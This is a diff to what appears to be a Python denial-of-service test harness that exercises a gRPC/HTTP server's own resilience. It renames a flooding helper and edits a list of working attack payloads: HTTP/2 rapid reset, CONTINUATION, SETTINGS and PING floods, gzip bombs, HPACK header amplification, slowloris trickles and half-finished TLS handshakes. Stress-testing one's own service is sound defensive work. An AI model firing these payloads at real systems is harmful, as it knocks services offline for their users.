@@ -129,7 +129,9 @@ def streams(block, then=lambda stream: b"", count=10_000, flags=0):
     return b"".join(heading(stream, block, flags) + then(stream) for stream in range(1, 2 * count, 2))
 
 
-def over_http2(data, start=hello()):
+def flooding(data, start=hello()):
+    """Says one thing, and then another without pause."""
+
     async def life(peer):
         await peer.send(start)
         await peer.flood(data)
@@ -195,7 +197,7 @@ def tiny_windows():
     question = frame(SCHEMA)
     asking = streams(head(REFLECT), lambda stream: http2_frame(DATA, END_STREAM, stream, question), count=90)
     credit = b"".join(http2_frame(WINDOW, 0, stream, b"\0\0\0\1") for stream in range(1, 181, 2))
-    return over_http2(credit, hello(1) + asking)
+    return flooding(credit, hello(1) + asking)
 
 
 async def churn(peer):
@@ -238,6 +240,12 @@ def bombs():
     return calls, post(HEALTHZ, "application/json", len(packed), "content-encoding: gzip") + packed
 
 
+def unread_answers():
+    """Requests whose answers are more than a connection has room for, over HTTP/1.1."""
+    question = frame(SCHEMA) * 2
+    return (post(REFLECT, "application/grpc-web+proto", len(question)) + question) * 4
+
+
 def everything():
     calls, connect = bombs()
     call = heading(1, head())
@@ -247,40 +255,41 @@ def everything():
     # A field of the table, and 12,000 references to it, of a byte each.
     table = head() + b"\x40" + FIELD + b"\xbe" * 12_000
     return [
-        Attack("A1: language tag of 30 KB in a query", 8, over_http2(
+        Attack("A1: language tag of 30 KB in a query", 8, flooding(
             streams(head(f"{VERIFY}?userId=1&lang={LANGUAGE}"), count=200, flags=END_STREAM))),
-        Attack("A1: accept-language of 30 KB", 8, once(
-            (PAGE + f"accept-language: {LANGUAGE}\r\n\r\n".encode()) * 50)),
+        Attack("A1: accept-language of 30 KB", 8, flooding(
+            (PAGE + f"accept-language: {LANGUAGE}\r\n\r\n".encode()) * 50, start=b"")),
         Attack("A1: forms of a megabyte of `-`", 8, once(
             post(VERIFY, "application/x-www-form-urlencoded", MIB) + b"lang=" + b"-" * (MIB - 5))),
         Attack("A2: unfinished messages, 90 streams each", 10, uploads, stays=True),
         Attack("A2: unfinished bodies over HTTP/1.1", 300, once(
             post(HEALTHZ, "application/json", 60_000) + b'"' + bytes(59_000))),
-        Attack("A3: reflection, a window of 0", 40, unread(hello(0) + ask)),
+        Attack("A3: reflection, a window of 0", 40, unread(hello(0) + ask), stays=True),
         Attack("A11: silent connections", 1_100, once(b""), stays=True),
         Attack("A11: the same, 1,024 descriptors at most", 1_100, once(b""), limit=1_024, stays=True),
-        Attack("rapid reset", 8, over_http2(reset)),
-        Attack("CONTINUATION without end", 8, over_http2(http2_frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 100, begun)),
-        Attack("CONTINUATION, empty", 8, over_http2(http2_frame(CONTINUATION, 0, 1) * 1_000, begun)),
-        Attack("SETTINGS", 8, over_http2(http2_frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 1_000)),
-        Attack("PING", 8, over_http2(http2_frame(PING, 0, 0, bytes(8)) * 1_000)),
-        Attack("PRIORITY", 8, over_http2(http2_frame(PRIORITY, 0, 3, b"\0\0\0\x01\x10") * 1_000)),
-        Attack("DATA, empty", 8, over_http2(http2_frame(DATA, 0, 1) * 1_000, hello() + call)),
-        Attack("WINDOW_UPDATE of 1", 8, over_http2(http2_frame(WINDOW, 0, 1, b"\0\0\0\x01") * 1_000, hello() + call)),
+        Attack("rapid reset", 8, flooding(reset)),
+        Attack("CONTINUATION without end", 8, flooding(http2_frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 100, begun)),
+        Attack("CONTINUATION, empty", 8, flooding(http2_frame(CONTINUATION, 0, 1) * 1_000, begun)),
+        Attack("SETTINGS", 8, flooding(http2_frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 1_000)),
+        Attack("PING", 8, flooding(http2_frame(PING, 0, 0, bytes(8)) * 1_000)),
+        Attack("PRIORITY", 8, flooding(http2_frame(PRIORITY, 0, 3, b"\0\0\0\x01\x10") * 1_000)),
+        Attack("DATA, empty", 8, flooding(http2_frame(DATA, 0, 1) * 1_000, hello() + call)),
+        Attack("WINDOW_UPDATE of 1", 8, flooding(http2_frame(WINDOW, 0, 1, b"\0\0\0\x01") * 1_000, hello() + call)),
         Attack("answers taken a byte at a time", 8, tiny_windows()),
-        Attack("fields of 48 MB by the table", 8, over_http2(streams(table, count=500, flags=END_STREAM))),
+        Attack("fields of 48 MB by the table", 8, flooding(streams(table, count=500, flags=END_STREAM))),
         Attack("unfinished heads of 48 KB, HTTP/2", 1_000, once(
             begun + http2_frame(CONTINUATION, 0, 1, (b"\x00" + FIELD) * 4) * 3)),
-        Attack("gzip bombs, gRPC", 8, over_http2(calls)),
-        Attack("gzip bombs, Connect over HTTP/1.1", 8, once(connect * 20)),
+        Attack("gzip bombs, gRPC", 8, flooding(calls)),
+        Attack("gzip bombs, Connect over HTTP/1.1", 8, flooding(connect * 20, start=b"")),
         Attack("slowloris: a byte of a head each second", 1_000, trickle(b"GET / HTTP/1.1\r\nhost: x\r\na: ", b"a", 1)),
         Attack("unfinished heads of 54 KB, HTTP/1.1", 1_000, once(LARGE_HEAD)),
         Attack("a byte of a body each second", 500, trickle(post(HEALTHZ, "application/json", 60_000), b" ", 1)),
         Attack("unfinished chunks", 500, once(post(HEALTHZ, "application/json", None) + b"e000\r\n" + bytes(50_000))),
-        Attack("chunks of a byte with extensions", 8, over_http2(
+        Attack("chunks of a byte with extensions", 8, flooding(
             (b"1;" + b"a" * 100 + b"\r\n \r\n") * 500, post(HEALTHZ, "application/json", None))),
         Attack("pipelining without reading", 100, unread((PAGE + b"\r\n") * 20_000), small=True),
-        Attack("heads of 54 KB behind unread answers", 200, unread((PAGE + LARGE_FIELDS + b"\r\n") * 100), small=True),
+        Attack("heads of 54 KB behind unread answers", 200, unread(
+            unread_answers() + (PAGE + LARGE_FIELDS + b"\r\n") * 16), small=True),
         Attack("idle after a call", 2_000, once(b"GET /debug/healthz HTTP/1.1\r\nhost: x\r\n\r\n"), stays=True),
         Attack("connections made and reset", 50, churn),
         Attack("TLS handshakes half done", 1_000, once(CLIENT_HELLO), tls=True),
